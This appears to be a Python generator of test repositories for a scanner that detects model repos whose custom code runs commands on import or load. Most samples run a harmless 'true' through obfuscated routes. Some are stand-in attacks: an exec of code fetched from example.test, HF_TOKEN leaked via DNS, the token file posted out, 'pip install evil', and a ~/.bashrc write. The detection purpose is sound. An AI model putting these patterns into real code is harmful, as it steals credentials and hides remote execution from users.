"""More Python: what runs when a file is imported, by roads that do not look like a call, and what a loader reaches."""

import json

from .tensors import entry, safetensors

WEIGHTS = safetensors({"w": entry(0, 16)}, b"\0" * 16)
BODY = "\n\nclass M:\n    pass\n"

ON_IMPORT = {
    "metaclass": "import os\n\nclass Meta(type):\n    def __new__(cls, name, bases, space):\n        os.system('true')\n        return super().__new__(cls, name, bases, space)\n\nclass A(metaclass=Meta):\n    pass\n",
    "init-subclass": "import os\n\nclass A:\n    def __init_subclass__(cls):\n        os.system('true')\n\nclass B(A):\n    pass\n",
    "set-name": "import os\n\nclass D:\n    def __set_name__(self, owner, name):\n        os.system('true')\n\nclass A:\n    x = D()\n",
    "class-body": "import os\n\nclass A:\n    x = os.system('true')\n",
    "class-getitem": "import os\n\nclass A:\n    def __class_getitem__(cls, item):\n        os.system('true')\n\nx: int = 1\ny = A[int]\n",
    "annotation": "import os\n\ndef f(x: os.system('true')):\n    pass\n",
    "comprehension": "import os\n[f('true') for f in (os.system,)]\n",
    "map": "import os\nlist(map(os.system, ['true']))\n",
    "walrus": "import os\nif (f := os.system) and f('true'):\n    pass\n",
    "f-string": "x = f\"{__import__('os').system('true')}\"\n",
    "lambda": "import os\n(lambda: os.system)()('true')\n",
    "vars": "import os\nvars(os)['system']('true')\n",
    "dict": "import os\nos.__dict__['sys' + 'tem']('true')\n",
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('true')\n",
    "methodcaller": "import operator, os\noperator.methodcaller('system', 'true')(os)\n",
    "reduce": "import functools, os\nfunctools.reduce(getattr, ['system'], os)('true')\n",
    "partial": "import functools, os\nfunctools.partial(os.system, 'true')()\n",
    "globals": "f = globals()['__builtins__']\ng = f['exec'] if isinstance(f, dict) else f.exec\ng('import os; os.system(\\'true\\')')\n",
    "builtins": "import builtins\ngetattr(builtins, 'ev' + 'al')(\"__import__('os').system('true')\")\n",
    "modules": "import sys\nsys.modules['os'].system('true')\n",
    "with": "import os\n\nclass C:\n    def __enter__(self):\n        os.system('true')\n    def __exit__(self, *rest):\n        pass\n\nwith C():\n    pass\n",
    "property": "import os\n\nclass C:\n    @property\n    def x(self):\n        return os.system('true')\n\nC().x\n",
    "operator": "import os\n\nclass C:\n    def __add__(self, other):\n        return os.system('true')\n\nC() + 1\n",
    "iterator": "import os\n\nclass C:\n    def __iter__(self):\n        os.system('true')\n        return iter(())\n\nfor x in C():\n    pass\n",
    "exception": "import os\n\nclass E(Exception):\n    def __init__(self):\n        os.system('true')\n\ntry:\n    raise E\nexcept E:\n    pass\n",
    "handler": "import os\ntry:\n    1 / 0\nexcept ZeroDivisionError:\n    os.system('true')\n",
    "match": "import os\nmatch os.name:\n    case 'posix':\n        os.system('true')\n",
    "async": "import asyncio\n\nasync def go():\n    await asyncio.create_subprocess_shell('true')\n\nasyncio.run(go())\n",
    "thread": "import os, threading\nthreading.Thread(target=os.system, args=('true',)).start()\n",
    "timer": "import os\nfrom threading import Timer\nTimer(0.1, os.system, ['true']).start()\n",
    "pool": "import os\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(os.system, 'true')\n",
    "process": "import os\nfrom multiprocessing import Process\nProcess(target=os.system, args=('true',)).start()\n",
    "atexit": "import atexit, os\natexit.register(os.system, 'true')\n",
    "atexit-decorator": "import atexit, os\n\n@atexit.register\ndef go():\n    os.system('true')\n",
    "finalize": "import os, weakref\n\nclass C:\n    pass\n\nc = C()\nweakref.finalize(c, os.system, 'true')\n",
    "exit-stack": "import contextlib, os\nwith contextlib.ExitStack() as stack:\n    stack.callback(os.system, 'true')\n",
    "excepthook": "import os, sys\nsys.excepthook = lambda *rest: os.system('true')\n",
    "import-hook": "import sys\n\nclass Finder:\n    def find_spec(self, name, path, target=None):\n        exec(fetch(name))\n\nsys.meta_path.insert(0, Finder())\n",
    "import-replaced": "import builtins\nreal = builtins.__import__\n\ndef mine(name, *rest):\n    return real(name, *rest)\n\nbuiltins.__import__ = mine\n",
    "spec": "import importlib.util\nspec = importlib.util.spec_from_file_location('x', 'weights.bin')\nmodule = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(module)\n",
    "source-loader": "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'vocab.txt').load_module()\n",
    "runpy": "import runpy\nrunpy.run_path('vocab.txt')\n",
    "site": "import site\nsite.addsitedir('.')\n",
    "zipimport": "import sys\nsys.path.insert(0, 'model.safetensors')\nimport hidden\n",
    "marshal": "import marshal, types\ntypes.FunctionType(marshal.loads(bytes.fromhex('e300')), globals())()\n",
    "code-type": "import types\ncode = (lambda: None).__code__.replace(co_code=open('w.bin', 'rb').read())\ntypes.FunctionType(code, {})()\n",
    "ctypes": "import ctypes\nctypes.CDLL(None).system(b'true')\n",
    "posix-spawn": "import os\nos.posix_spawn('/bin/true', ['true'], {})\n",
    "fork-exec": "import _posixsubprocess\n_posixsubprocess.fork_exec([b'true'], [b'/bin/true'], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, 0, None, None, None, -1, None, False)\n",
    "pty": "import pty\npty.spawn('true')\n",
    "characters": "getattr(__import__(''.join(map(chr, [111, 115]))), ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('true')\n",
    "reversed": "import os\ngetattr(os, 'metsys'[::-1])('true')\n",
    "rot13": "import codecs, os\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('true')\n",
    "number": "import os\ngetattr(os, (126943972912493).to_bytes(6, 'big').decode())('true')\n",
    "translate": "import os\ngetattr(os, 'rxrsdl'.translate({ord(c): chr(ord(c) + 1) for c in 'rxdl'}))('true')\n",
    "percent": "import os\ngetattr(os, '%c%c%c%c%c%c' % (115, 121, 115, 116, 101, 109))('true')\n",
    "docstring": "'''pass'''\nexec(__doc__)\n",
    "own-file": "exec(open(__file__).read().split('#' * 3)[1])\n",
    "from-weights": "import numpy as np\nexec(np.load('w.npy').tobytes())\n",
    "from-safetensors": "from safetensors.numpy import load_file\nexec(bytes(load_file('model.safetensors')['w']).decode())\n",
    "environment": "import os\nexec(os.environ.get('X', ''))\n",
    "network-exec": "import urllib.request as r\nexec(r.urlopen('http://example.test/x').read())\n",
    "dns": "import os, socket\nsocket.gethostbyname(os.environ.get('HF_TOKEN', 'x') + '.example.test')\n",
    "token": "import os, requests\nrequests.post('http://example.test', data=open(os.path.expanduser('~/.cache/huggingface/token')).read())\n",
    "torch-load": "import torch\ntorch.load('optimizer.bin', weights_only=False)\n",
    "cpp-extension": "from torch.utils.cpp_extension import load_inline\nload_inline('x', cpp_sources='int f() { return 0; }', functions=['f'])\n",
    "library": "import torch\ntorch.ops.load_library('./x.so')\n",
    "yaml": "import yaml\nyaml.load(open('c.yaml'), Loader=yaml.UnsafeLoader)\n",
    "pip": "import pip\npip.main(['install', 'evil'])\n",
    "pip-process": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evil'])\n",
    "bashrc": "import pathlib\npathlib.Path('~/.bashrc').expanduser().open('a').write('true\\n')\n",
    "tabs": "import os\n" + " " * 400 + ";os.system('true')\nx = 1" + " " * 500 + "; os.system('true')\n",
    "continued": "import os\nos\\\n.system\\\n('true')\n",
    "unicode-name": "import os\nos.ｓｙｓｔｅｍ('true')\n",
    "star": "from os import *\nsystem('true')\n",
    "alias-chain": "import os as a\nb = a\nc = b.system\nd = [c]\nd[0]('true')\n",
    "default": "import os\n\ndef f(g=os.system, *, h='true'):\n    g(h)\n\nf()\n",
    "nested-scope": "import os\n\ndef outer():\n    f = os.system\n    def inner():\n        f('true')\n    return inner\n\nouter()()\n",
    "generator": "import os\n\ndef g():\n    yield os.system('true')\n\nnext(g())\n",
    "sorted-key": "import os\nsorted(['true', 'true'], key=os.system)\n",
    "type": "import os\ntype('A', (), {'__init__': lambda self: os.system('true')})()\n",
    "del": "import os\n\nclass C:\n    def __del__(self):\n        os.system('true')\n\nC()\n",
    "getattr-module": "import os\n\ndef __getattr__(name):\n    return os.system('true')\n",
    "print-replaced": "import os, builtins\nbuiltins.print = lambda *rest: os.system('true')\n",
    "trace": "import os, sys\nsys.setprofile(lambda *rest: os.system('true'))\n",
}

BY_LOADER = {
    "init": "import os\n\nclass M:\n    def __init__(self, config):\n        os.system('true')\n",
    "post-init": "import os\n\nclass M(Base):\n    def __init__(self, config):\n        super().__init__(config)\n        self.prepare()\n\n    def prepare(self):\n        os.system('true')\n",
    "new": "import os\n\nclass M:\n    def __new__(cls, *rest):\n        os.system('true')\n        return object.__new__(cls)\n",
    "from-pretrained": "import os\n\nclass M:\n    @classmethod\n    def from_pretrained(cls, *rest, **more):\n        os.system('true')\n",
    "config-eval": "class M:\n    def __init__(self, config):\n        self.f = eval(config.activation)\n",
    "init-helper": "import subprocess\n\ndef ready():\n    subprocess.run(['true'])\n\nclass M:\n    def __init__(self, config):\n        ready()\n",
    "init-lambda": "import os\n\nclass M:\n    def __init__(self, config):\n        self.f = lambda: os.system('true')\n        self.f()\n",
    "base-class": "import os\n\nclass Base:\n    def __init__(self, config):\n        os.system('true')\n\nclass M(Base):\n    pass\n",
    "forward": "import os\n\nclass M:\n    def forward(self, x):\n        os.system('true')\n        return x\n",
    "forward-eval": "class M:\n    def forward(self, x):\n        return eval(x)\n",
    "call": "import subprocess\n\nclass M:\n    def __call__(self, x):\n        return subprocess.getoutput(x)\n",
    "setattr": "import os\n\nclass M:\n    def __setattr__(self, name, value):\n        os.system('true')\n",
    "setstate": "import os\n\nclass M:\n    def __setstate__(self, state):\n        os.system('true')\n",
}


def make(corpus):
    config = json.dumps({"model_type": "m", "auto_map": {"AutoModel": "modeling_m.M"}})

    def add(name, files, why, source="", expected="found"):
        corpus.folder("repositories", f"wider-{name}", {"model.safetensors": WEIGHTS, **files}, expected, why, source)

    for label, code in ON_IMPORT.items():
        add(f"import-{label}", {"config.json": config, "modeling_m.py": code + BODY}, "custom code that runs something when it is imported")
    for label, code in BY_LOADER.items():
        add(f"load-{label}", {"config.json": config, "modeling_m.py": code}, "custom code whose class runs something")
    relative = {
        "package": {"config.json": json.dumps({"auto_map": {"AutoModel": "net.modeling.M"}}), "net/__init__.py": "import os\nos.system('true')\n", "net/modeling.py": BODY},
        "relative": {"config.json": config, "modeling_m.py": "from . import helper\n" + BODY, "helper.py": "from .deep.inner import go\ngo()\n", "deep/inner.py": "import os\n\ndef go():\n    os.system('true')\n"},
        "relative-base": {"config.json": config, "modeling_m.py": "from .base import Base\n\nclass M(Base):\n    pass\n", "base.py": "import os\n\nclass Base:\n    def __init__(self, config):\n        os.system('true')\n"},
        "import-star": {"config.json": config, "modeling_m.py": "from .helper import *\nrun('true')\n" + BODY, "helper.py": "from os import system as run\n"},
        "conditional": {"config.json": config, "modeling_m.py": "try:\n    import nothing_such\nexcept ImportError:\n    from . import fallback\n" + BODY, "fallback.py": "import os\nos.system('true')\n"},
        "shadow": {"config.json": config, "modeling_m.py": "import json\n" + BODY, "json.py": "import os\nos.system('true')\n"},
        "data-as-code": {"config.json": config, "modeling_m.py": "import os\nwith open(os.path.join(os.path.dirname(__file__), 'vocab.txt')) as f:\n    exec(f.read())\n" + BODY, "vocab.txt": "import os\n"},
    }
    for label, files in relative.items():
        add(f"relative-{label}", files, "custom code by way of other files")
